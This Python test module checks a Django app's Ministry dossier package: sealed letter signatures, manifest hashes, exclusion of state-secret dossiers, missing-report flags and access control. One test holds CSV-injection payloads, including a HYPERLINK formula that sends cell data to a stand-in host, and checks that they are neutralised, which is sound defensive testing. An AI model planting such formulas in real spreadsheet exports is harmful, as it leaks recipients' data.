"""The Tờ trình as a record and the electronic dossier package for the Ministry: the sealed
letter verifies, the manifest's hashes are the files', two builds are the same bytes, a dossier
holding state secrets is left out with the reason, a missing Báo cáo thành tích is reported, and
only those who forward nominations get the package."""

import csv
import datetime
import hashlib
import io
import json
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.urls import reverse
from pypdf import PdfWriter
from rest_framework.test import APIClient

from commendations.decisions import letters
from commendations.decisions.documents import submission_context
from commendations.decisions.letters import submission_letter_create
from commendations.decisions.models import SubmissionLetter
from commendations.decisions.package import (
    INCOMPLETE_PATH,
    MISSING_REPORT,
    SECRET_REASON,
    package_bytes,
    package_filename,
)
from commendations.documents.libreoffice import docx_to_pdf
from commendations.documents.signer import Signer
from commendations.eligibility.models import AttachmentKind
from commendations.events import AuditEventKind
from commendations.files.spreadsheet import FORMULA_TRIGGERS
from commendations.nominations.models import Attachment
from commendations.signatures.pdf_verdict import pdf_verify
from commendations.tokens.services import api_token_issue
from tests.factories import NominationFactory
from tests.helpers import advance
from workflow.models import AuditEvent

pytestmark = pytest.mark.django_db
SIGNER = Signer(title="GIÁM ĐỐC", rank="Thiếu tướng", name="Rah Lan Chung")
_CONVERTED: dict[str, bytes] = {}


@pytest.fixture(autouse=True)
def one_conversion(monkeypatch, soffice_path):
    """LibreOffice runs once for this module: the first letter's PDFs (a real Tờ trình and
    Biên bản, converted to PDF/A) stand for the others'; sealing and checking run every time."""

    def convert(documents: dict[str, bytes], *, pdfa: bool = False, **kwargs) -> dict:
        if not set(documents) <= set(_CONVERTED):
            _CONVERTED.update(docx_to_pdf(documents, pdfa=pdfa))
        return {name: _CONVERTED[name] for name in documents}

    monkeypatch.setattr(letters, "docx_to_pdf", convert)


def _pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _report(nomination, content: bytes) -> Attachment:
    return Attachment.objects.create(
        nomination=nomination,
        kind=AttachmentKind.ACHIEVEMENT_REPORT,
        file=ContentFile(content, name="bao-cao.pdf"),
        original_name="Báo cáo thành tích.pdf",
        size=len(content),
        content_type="application/pdf",
    )


@pytest.fixture
def dossiers(campaign, district, ministry_award, officer, member, secretary):
    """Three Bằng khen recommended by the council: one with its report, one flagged as holding
    state secrets (with a report that must not leave), one without a report."""
    made = {}
    for key, name in (("ok", "Công an xã Glar"), ("secret", "Phòng An ninh"), ("bare", "Đội A")):
        nomination = NominationFactory(
            campaign=campaign, unit=district, award_type=ministry_award, nominee_name=name
        )
        advance(nomination, "recommended", officer=officer, member=member, secretary=secretary)
        made[key] = nomination
    _report(made["ok"], _pdf())
    _report(made["secret"], b"%PDF-1.4 secret report")
    made["secret"].contains_state_secrets = True
    made["secret"].save(update_fields=["contains_state_secrets"])
    # a secret dossier is seen only by those directly involved: the secretary is designated
    made["secret"].designated_reviewers.add(secretary)
    return made


def _letter(secretary, dossiers, number="15/TTr-CAT-PV05") -> SubmissionLetter:
    """A letter over the three; "Đội A"'s report is withdrawn after it was made (an incomplete
    dossier is refused before any letter exists: tests/web/test_submission_letter_submit.py), so
    the package still has a nominee whose report is missing."""
    withdrawn = _report(dossiers["bare"], _pdf())
    letter = submission_letter_create(
        actor=secretary,
        nomination_ids=[n.pk for n in dossiers.values()],
        number=number,
        date=datetime.date(2025, 3, 10),
        signer=SIGNER,
    )
    withdrawn.delete()
    return letter


def _unzip(content: bytes) -> tuple[zipfile.ZipFile, dict]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return archive, json.loads(archive.read("manifest.json"))


def test_the_package_holds_the_sealed_letter_and_its_manifest_checks(seal, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    assert letter.sealed and letter.minutes_pdf
    assert AuditEvent.objects.filter(kind=AuditEventKind.SUBMISSION_LETTER_CREATED).count() == 1

    content = package_bytes(letter)
    assert package_bytes(letter) == content  # deterministic
    archive, manifest = _unzip(content)
    names = archive.namelist()
    assert names == sorted(names)
    assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert {"to-trinh.pdf", "bien-ban-hop-hoi-dong.pdf", "danh-sach.csv"} <= set(names)

    listed = {f["path"]: f for f in manifest["files"]}
    assert set(listed) == set(names) - {"manifest.json"}
    for path, entry in listed.items():
        data = archive.read(path)
        assert entry["size"] == len(data)
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()

    letter_pdf = archive.read("to-trinh.pdf")
    verdict = pdf_verify(letter_pdf)
    assert verdict.ok, verdict.messages
    signed = listed["to-trinh.pdf"]["signatures"]
    assert [s["valid"] for s in signed] == [True]
    assert signed[0]["serial"] == verdict.signatures[0].serial
    assert pdf_verify(archive.read("bien-ban-hop-hoi-dong.pdf")).ok
    assert manifest["submission_letter"]["number"] == "15/TTr-CAT-PV05"
    assert manifest["submission_letter"]["date"] == "2025-03-10"
    assert manifest["generator"]["generated_at"]

    # the state-secret dossier: out, with the reason; its report is not in the ZIP
    assert manifest["excluded"] == [
        {"nomination": dossiers["secret"].pk, "name": "Phòng An ninh", "reason": SECRET_REASON}
    ]
    assert not any(b"secret report" in archive.read(n) for n in names)
    reports = [n for n in names if n.startswith("bao-cao-thanh-tich/")]
    assert len(reports) == 1 and "cong-an-xa-glar" in reports[0]
    # the one without a report: said to be missing
    assert {"nomination": dossiers["bare"].pk, "name": "Đội A", "reason": MISSING_REPORT} in (
        manifest["missing"]
    )
    listing = archive.read("danh-sach.csv").decode("utf-8-sig")
    assert "Phòng An ninh" in listing and SECRET_REASON in listing


def test_a_tampered_letter_in_the_package_is_caught_offline(seal, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    archive, manifest = _unzip(package_bytes(letter))
    data = bytearray(archive.read("to-trinh.pdf"))
    data[len(data) // 3] ^= 0x01
    entry = next(f for f in manifest["files"] if f["path"] == "to-trinh.pdf")
    assert hashlib.sha256(bytes(data)).hexdigest() != entry["sha256"]
    assert not pdf_verify(bytes(data)).ok


def test_the_letter_page_warns_before_download(client, seal, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    client.force_login(secretary)
    page = client.get(reverse("submission_letter_detail", args=[letter.pk])).content.decode()
    assert SECRET_REASON in page and "Phòng An ninh" in page
    assert MISSING_REPORT in page and "Đội A" in page
    response = client.get(reverse("submission_letter_package", args=[letter.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == package_bytes(letter)


def test_without_the_seal_the_letter_is_kept_unsealed_and_says_so(client, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    assert not letter.sealed
    assert pdf_verify(letter.pdf.read()).problems  # no signature
    client.force_login(secretary)
    page = client.get(reverse("submission_letter_detail", args=[letter.pk])).content.decode()
    assert "chưa ký số" in page


def test_the_forward_page_creates_the_letter(client, secretary, dossiers):
    client.force_login(secretary)
    response = client.post(
        reverse("submission_letter_create"),
        {
            "ids": [dossiers["ok"].pk],
            "letter_number": "16/TTr-CAT-PV05",
            "letter_date": "12/03/2025",
            "signer_title": "GIÁM ĐỐC",
            "signer_name": "Rah Lan Chung",
        },
    )
    letter = SubmissionLetter.objects.get()
    assert response.status_code == 302 and response.url == letter.get_absolute_url()
    assert list(letter.nominations.all()) == [dossiers["ok"]]


def test_a_bad_letter_writes_nothing(secretary, dossiers, director_award, campaign, district):
    with pytest.raises(ValidationError):
        _letter(secretary, dossiers, number="không số")
    with pytest.raises(ValidationError):
        submission_letter_create(
            actor=secretary,
            nomination_ids=[dossiers["ok"].pk, 10**9],
            number="17/TTr-CAT-PV05",
            date=datetime.date(2025, 3, 10),
            signer=SIGNER,
        )
    assert not SubmissionLetter.objects.exists()


def test_the_package_size_is_bounded(settings, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    settings.DOSSIER_PACKAGE_MAX_BYTES = 1000
    with pytest.raises(ValidationError):
        package_bytes(letter)


def test_a_unit_officer_cannot_have_the_ministry_package(client, officer, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    client.force_login(officer)
    for name in ("submission_letter_detail", "submission_letter_package", "submission_letter_pdf"):
        assert client.get(reverse(name, args=[letter.pk])).status_code == 403
    assert client.post(reverse("submission_letter_create"), {}).status_code == 403


def _api(user) -> APIClient:
    api = APIClient()
    _token, key = api_token_issue(user=user)
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return api


def test_the_api_lists_creates_and_packages_letters(seal, secretary, officer, dossiers):
    api = _api(secretary)
    refused = api.post(
        "/api/v1/submission-letters/",
        {
            "nominations": [n.pk for n in dossiers.values()],
            "number": "18/TTr-CAT-PV05",
            "date": "2025-03-10",
            "signer_name": "Rah Lan Chung",
        },
        format="json",
    )
    assert refused.status_code == 400 and "Đội A: thiếu Báo cáo thành tích." in refused.text
    assert not SubmissionLetter.objects.exists()
    _report(dossiers["bare"], _pdf())
    created = api.post(
        "/api/v1/submission-letters/",
        {
            "nominations": [n.pk for n in dossiers.values()],
            "number": "18/TTr-CAT-PV05",
            "date": "2025-03-10",
            "signer_title": "GIÁM ĐỐC",
            "signer_rank": "Thiếu tướng",
            "signer_name": "Rah Lan Chung",
        },
        format="json",
    )
    assert created.status_code == 201, created.content
    body = created.json()
    assert body["sealed"] is True
    assert body["excluded"][0]["reason"] == SECRET_REASON
    letter = SubmissionLetter.objects.get(pk=body["id"])
    listed = api.get("/api/v1/submission-letters/").json()
    rows = listed["results"] if isinstance(listed, dict) else listed
    assert [r["id"] for r in rows] == [letter.pk]
    detail = api.get(f"/api/v1/submission-letters/{letter.pk}/").json()
    assert detail["number"] == "18/TTr-CAT-PV05"
    assert sorted(detail["nominations"]) == sorted(n.pk for n in dossiers.values())
    package = api.get(f"/api/v1/submission-letters/{letter.pk}/package/")
    assert package.status_code == 200 and package["Content-Type"] == "application/zip"
    assert b"".join(package.streaming_content) == package_bytes(letter)

    unit = _api(officer)
    assert unit.get(f"/api/v1/submission-letters/{letter.pk}/package/").status_code == 403
    assert unit.get("/api/v1/submission-letters/").status_code == 403
    again = api.post(
        "/api/v1/submission-letters/",
        {
            "nominations": [dossiers["ok"].pk],
            "number": "18/TTr-CAT-PV05",
            "date": "2025-04-01",
            "signer_name": "Rah Lan Chung",
        },
        format="json",
    )
    assert again.status_code == 400


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?d="&C2,"x")', "@SUM(A1:A2)", "+1+1", "-1+1"]


def test_the_list_in_the_package_carries_no_formula(seal, secretary, dossiers):
    """Security: danh-sach.csv opened in a spreadsheet at the Ministry must show the
    names the units typed, never run them (OWASP CSV injection, as the Excel exports)."""
    for nomination, name in zip(dossiers.values(), HOSTILE_NAMES, strict=False):
        nomination.nominee_name = name
        nomination.save(update_fields=["nominee_name"])
    archive, _manifest = _unzip(package_bytes(_letter(secretary, dossiers)))
    rows = list(csv.reader(io.StringIO(archive.read("danh-sach.csv").decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    for name in HOSTILE_NAMES[:3]:
        assert any(cell.startswith(f"'{name}") for cell in cells), name


def test_the_letter_lists_only_what_is_attached(dossiers):
    """Two of three dossiers hold a Báo cáo thành tích, none holds evidence: the Tờ trình
    says so instead of a blanket "Báo cáo thành tích của các tập thể, cá nhân"."""
    nominations = list(dossiers.values())
    files = submission_context(nominations, signer=SIGNER)["attached_files"]
    assert files == [
        "Biên bản họp Hội đồng Thi đua - Khen thưởng",
        "Báo cáo thành tích của 2 tập thể",
    ]
    files = submission_context([dossiers["bare"]], signer=SIGNER)["attached_files"]
    assert not any("Báo cáo thành tích" in item for item in files)


def test_an_incomplete_package_is_marked_per_nominee(seal, secretary, dossiers):
    letter = _letter(secretary, dossiers)
    archive, manifest = _unzip(package_bytes(letter))
    assert manifest["complete"] is False
    note = archive.read(INCOMPLETE_PATH).decode()
    assert note.startswith("HỒ SƠ CHƯA ĐỦ")
    assert f"- Đội A: {MISSING_REPORT}." in note
    assert package_filename(letter).endswith("-CHUA-DU.zip")
    _report(dossiers["bare"], _pdf())
    archive, manifest = _unzip(package_bytes(letter))
    assert manifest["complete"] is True and INCOMPLETE_PATH not in archive.namelist()
    assert not package_filename(letter).endswith("-CHUA-DU.zip")
